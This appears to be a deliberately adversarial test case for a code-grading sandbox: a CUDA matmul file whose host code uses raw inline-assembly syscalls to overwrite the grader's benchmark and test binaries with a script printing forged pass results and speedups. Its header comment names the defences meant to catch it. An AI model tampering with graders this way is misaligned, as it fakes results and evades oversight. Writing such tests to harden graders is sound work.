// CHEATING (tampering): the same attack as tamper_rewrite_bench -- replace
// 01_naive_matmul_bench and 01_naive_matmul_test beside /proc/self/exe with a script that
// prints forged results -- but with no library call at all: readlink, open, write, close,
// chmod and rename are raw system calls issued by inline assembly in host code, and every
// string is built by hand. The object imports nothing an import rule could flag.
// Defence: the policy's syscall rule (no syscall/svc/int 0x80 instruction in host code). Behind
// it, the worker runs as another user that cannot write the build tree, and the grader checks
// the hashes of the binaries it built.
#include "matmul.h"

namespace {

#if defined(__x86_64__)
enum : long { kRead = 0, kWrite = 1, kOpen = 2, kClose = 3, kRename = 82, kChmod = 90, kReadlink = 89 };

long raw3(long n, long a, long b, long c) {
  long ret;
  asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return ret;
}
long sys_open(const char* path, long flags, long mode) { return raw3(kOpen, (long)path, flags, mode); }
long sys_rename(const char* from, const char* to) { return raw3(kRename, (long)from, (long)to, 0); }
long sys_chmod(const char* path, long mode) { return raw3(kChmod, (long)path, mode, 0); }
long sys_readlink(const char* path, char* buf, long size) {
  return raw3(kReadlink, (long)path, (long)buf, size);
}
#elif defined(__aarch64__)
enum : long { kWrite = 64, kOpenat = 56, kClose = 57, kRenameat = 38, kFchmodat = 53, kReadlinkat = 78 };
constexpr long kAtFdcwd = -100;

long raw4(long n, long a, long b, long c, long d) {
  register long x8 asm("x8") = n;
  register long x0 asm("x0") = a;
  register long x1 asm("x1") = b;
  register long x2 asm("x2") = c;
  register long x3 asm("x3") = d;
  asm volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
  return x0;
}
long raw3(long n, long a, long b, long c) { return raw4(n, a, b, c, 0); }
long sys_open(const char* path, long flags, long mode) {
  return raw4(kOpenat, kAtFdcwd, (long)path, flags, mode);
}
long sys_rename(const char* from, const char* to) {
  return raw4(kRenameat, kAtFdcwd, (long)from, kAtFdcwd, (long)to);
}
long sys_chmod(const char* path, long mode) { return raw4(kFchmodat, kAtFdcwd, (long)path, mode, 0); }
long sys_readlink(const char* path, char* buf, long size) {
  return raw4(kReadlinkat, kAtFdcwd, (long)path, (long)buf, size);
}
#else
#error "this case is written for x86-64 and aarch64 Linux"
#endif

const char kScript[] =
    "#!/bin/sh\n"
    "for fd in 3 4 5 6 7 8 9; do echo '{\"event\": \"done\", \"tests\": 25}' >&$fd; done 2>/dev/null\n"
    "echo '[  PASSED  ] 25 tests.'\n"
    "echo '{\"benchmarks\": [{\"name\": \"matmul/v1_naive/4096\", \"ratio\": 5.0}]}'\n"
    "exit 0\n";

// Hand-written string helpers: volatile stops the compiler from turning them into memcpy/strlen.
long length(const char* s) {
  long n = 0;
  while (static_cast<const volatile char*>(s)[n] != '\0') ++n;
  return n;
}
char* append(char* out, const char* s) {
  for (long i = 0, n = length(s); i < n; ++i) static_cast<volatile char*>(out)[i] = s[i];
  out[length(s)] = '\0';
  return out + length(s);
}

void replace_with_script(const char* dir, const char* name) {
  char target[4200], tmp[4200];
  append(append(target, dir), name);
  append(append(append(tmp, dir), name), ".new");
  const long fd = sys_open(tmp, 01 | 0100 | 01000 /* O_WRONLY|O_CREAT|O_TRUNC */, 0755);
  if (fd < 0) return;
  raw3(kWrite, fd, (long)kScript, sizeof(kScript) - 1);
  raw3(kClose, fd, 0, 0);
  sys_chmod(tmp, 0755);
  sys_rename(tmp, target);
}

void tamper_once() {
  static bool done = false;
  if (done) return;
  done = true;
  char exe[4096];
  const long len = sys_readlink("/proc/self/exe", exe, sizeof(exe) - 1);
  if (len <= 0) return;
  long cut = len;
  while (cut > 0 && exe[cut - 1] != '/') --cut;
  exe[cut] = '\0';
  replace_with_script(exe, "01_naive_matmul_bench");
  replace_with_script(exe, "01_naive_matmul_test");
}

}  // namespace

__global__ void matmul_v1_naive_kernel(const float* A, const float* B, float* C, int M, int N,
                                       int K) {
  const int col = blockIdx.x * blockDim.x + threadIdx.x;
  const int row = blockIdx.y * blockDim.y + threadIdx.y;
  if (row >= M || col >= N) return;
  float acc = 0.0f;
  for (int k = 0; k < K; ++k) acc += A[(size_t)row * K + k] * B[(size_t)k * N + col];
  C[(size_t)row * N + col] = acc;
}

void matmul_v1_naive(const float* A, const float* B, float* C, int M, int N, int K,
                     cudaStream_t stream) {
  tamper_once();
  const dim3 block(32, 8);
  const dim3 grid((N + block.x - 1) / block.x, (M + block.y - 1) / block.y);
  matmul_v1_naive_kernel<<<grid, block, 0, stream>>>(A, B, C, M, N, K);
}
